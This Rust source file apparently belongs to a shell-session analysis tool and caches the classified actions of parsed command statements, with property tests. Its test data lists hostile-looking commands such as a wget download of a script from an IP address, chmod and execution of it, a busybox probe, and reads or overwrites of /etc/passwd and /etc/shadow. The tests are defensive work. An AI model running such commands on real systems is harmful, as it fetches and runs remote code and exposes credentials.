//! What was found of statements that were met before: lines of a session and the session itself share them, and so do a session and
//! all that an attack makes of it.
//!
//! ```text
//!   statement ─► everything that a family of actions looks at, as bytes ─► known? its actions
//!                                                                      └─► found, and kept
//! ```
//!
//! Only statements of the line itself are kept: what code within code does hangs on the statement around it, too.

use std::collections::HashMap;

use super::Set;
use crate::command::lexicon::Marks;
use crate::command::parse::Command;
use crate::command::word::Statement;

/// Statements that are kept; when one more comes, all are forgotten.
const STATEMENTS_MAX: usize = 4_096;
/// Bytes of the longest statement that is kept, with what stands beside its words.
const BYTES_MAX: usize = 512;
/// Ends a word: no byte of a text.
const END: u8 = 0xff;

/// Actions of statements that were met before; what is read with their help is what is read without. At most about 2.5 MB.
#[derive(Clone, Debug, Default)]
pub struct KnownStatements {
    sets: HashMap<Box<[u8]>, Set>,
    /// The statement that is asked for; room that is used again.
    asked: Vec<u8>,
}

impl KnownStatements {
    /// Returns the actions of a statement: those that are known, else those that `find` finds.
    pub(super) fn actions(
        &mut self,
        command: &Command,
        statement: &Statement,
        marks: Marks,
        find: impl FnOnce() -> Set,
    ) -> Set {
        if statement.layer > 0 || !self.ask(command, statement, marks) {
            return find();
        }
        if let Some(set) = self.sets.get(self.asked.as_slice()) {
            return *set;
        }
        let set = find();
        if self.sets.len() >= STATEMENTS_MAX {
            self.sets.clear();
        }
        self.sets.insert(self.asked.as_slice().into(), set);
        set
    }

    /// Writes down everything that families of actions look at; false if that is too long to be kept.
    fn ask(&mut self, command: &Command, statement: &Statement, marks: Marks) -> bool {
        let is_alone = command.statements.len() == 1;
        let program = statement.program.unwrap_or(usize::MAX);
        let program = program.wrapping_sub(statement.first);
        self.asked.clear();
        self.asked.extend(marks.bytes());
        self.asked.extend(program.to_le_bytes());
        self.asked
            .extend([statement.joint as u8, u8::from(is_alone)]);
        for word in command.words_of(statement) {
            let written = [word.role as u8, u8::from(word.quoted), u8::from(word.live)];
            self.asked.extend(written);
            self.asked.extend(command.letters(word).bytes());
            self.asked.push(END);
            if self.asked.len() > BYTES_MAX {
                return false;
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use ringtrue_core::Limits;

    use super::*;
    use crate::command::action::find;

    /// Statements that are alike but for one thing that some family of actions looks at.
    const STATEMENTS: [&str; 16] = [
        "sh",
        "\"sh\"",
        "sudo sh",
        "cd /tmp",
        "wget http://192.0.2.1/x.sh",
        "wget \"$A\"",
        "chmod 777 x.sh",
        "./x.sh",
        "/bin/busybox ECCHI",
        "echo a > /etc/passwd",
        "echo 'a > /etc/passwd'",
        "bash -c 'cd /tmp; sh'",
        "! sh",
        "cat /etc/shadow",
        "$(curl h.example)",
        "A=1 sh",
    ];
    const JOINTS: [&str; 6] = ["; ", " && ", " || ", " | ", " & ", "\n"];

    fn lines() -> impl Strategy<Value = Vec<String>> {
        let statement = proptest::sample::select(&STATEMENTS[..]);
        let pair = (statement, proptest::sample::select(&JOINTS[..]));
        let line = proptest::collection::vec(pair, 1..6).prop_map(|pairs| {
            let pieces = pairs
                .into_iter()
                .flat_map(|(statement, joint)| [statement, joint]);
            pieces.collect::<String>()
        });
        proptest::collection::vec(line, 1..40)
    }

    fn check(text: &str, known: &mut KnownStatements) {
        let (command, _) = Command::parse(text, &Limits::default());
        assert_eq!(find(&command, Some(known)), find(&command, None), "{text}");
        assert!(known.sets.len() <= STATEMENTS_MAX);
        assert!(known.sets.keys().all(|key| key.len() <= BYTES_MAX));
    }

    proptest! {
        #[test]
        fn known_actions_are_those_that_are_found(lines in lines()) {
            let mut known = KnownStatements::default();
            for text in &lines {
                check(text, &mut known);
            }
        }

        #[test]
        fn so_they_are_of_anything(lines in proptest::collection::vec("\\PC{0,40}", 1..10)) {
            let mut known = KnownStatements::default();
            for text in &lines {
                check(text, &mut known);
            }
        }
    }

    #[test]
    fn no_more_than_so_many_are_kept() {
        let mut known = KnownStatements::default();
        for number in 0..STATEMENTS_MAX {
            check(&format!("wget h{number}"), &mut known);
        }
        assert_eq!(known.sets.len(), STATEMENTS_MAX);
        check("wget another", &mut known);
        assert_eq!(known.sets.len(), 1);
        check(&format!("wget {}", "x".repeat(BYTES_MAX)), &mut known);
        assert_eq!(known.sets.len(), 1);
    }
}
